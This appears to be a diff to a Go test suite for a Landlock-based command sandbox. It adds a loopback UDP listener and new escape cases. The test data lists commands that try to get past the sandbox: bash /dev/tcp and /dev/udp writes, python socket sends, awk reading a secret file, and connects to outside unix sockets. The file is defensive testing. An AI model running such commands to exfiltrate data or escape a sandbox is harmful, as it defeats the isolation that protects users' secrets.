@@ -34,7 +34,7 @@ const (
 // reach.
 type attackEnv struct {
 	root, ws, home, secret, outside string
-	port                            int
+	port, udpPort                   int
 	accepted                        *atomic.Int64
 	marker                          string // unique argument of daemon processes
 }
@@ -65,6 +65,21 @@ func newAttackEnv(t *testing.T, mode string) attackEnv {
 	e.marker = fmt.Sprintf("%d.%06d", 3000+os.Getpid()%1000, time.Now().Nanosecond()/1000)
 	// Listeners of the host nothing may reach: TCP on loopback, a unix
 	// socket outside the workspace (a daemon's), an abstract unix socket.
+	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { udp.Close() })
+	e.udpPort = udp.LocalAddr().(*net.UDPAddr).Port
+	go func() {
+		buf := make([]byte, 64)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			e.accepted.Add(1)
+		}
+	}()
 	for _, addr := range [][2]string{
 		{"tcp4", "127.0.0.1:0"},
 		{"unix", filepath.Join(e.home, "daemon.sock")},
@@ -131,6 +146,10 @@ var attackCases = []attackCase{
 	{"awk getline", `awk 'BEGIN { while ((getline l < "{SECRET}") > 0) print l }'`},
 	{"awk print redirection", `awk 'BEGIN { print "x" > "{OUT}/awk" }'`},
 	{"bash /dev/tcp", "exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo hi >&3"},
+	// Landlock restricts UDP only from ABI 10: a datagram carries data out
+	// (DNS to any resolver) when the network is denied.
+	{"bash dev-udp", "echo hi > /dev/udp/127.0.0.1/{UDP}"},
+	{"python UDP sendto", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hi", ("127.0.0.1", {UDP}))'`},
 	{"python TCP connect", `python3 -c 'import socket; socket.create_connection(("127.0.0.1", {PORT}), 2)'`},
 	{"unix socket outside the workspace", `python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("{HOME_DIR}/daemon.sock")'`},
 	{"abstract unix socket", `python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("\0maestro-attack-{MARK}")'`},
@@ -173,7 +192,7 @@ func allAttackCases() []attackCase {
 func (e attackEnv) expand(command string) string {
 	return strings.NewReplacer(
 		"{SECRET}", e.secret, "{HOME_DIR}", e.home, "{OUT}", e.outside,
-		"{PORT}", strconv.Itoa(e.port), "{PID}", strconv.Itoa(os.Getpid()), "{MARK}", e.marker,
+		"{PORT}", strconv.Itoa(e.port), "{UDP}", strconv.Itoa(e.udpPort), "{PID}", strconv.Itoa(os.Getpid()), "{MARK}", e.marker,
 	).Replace(command)
 }
 
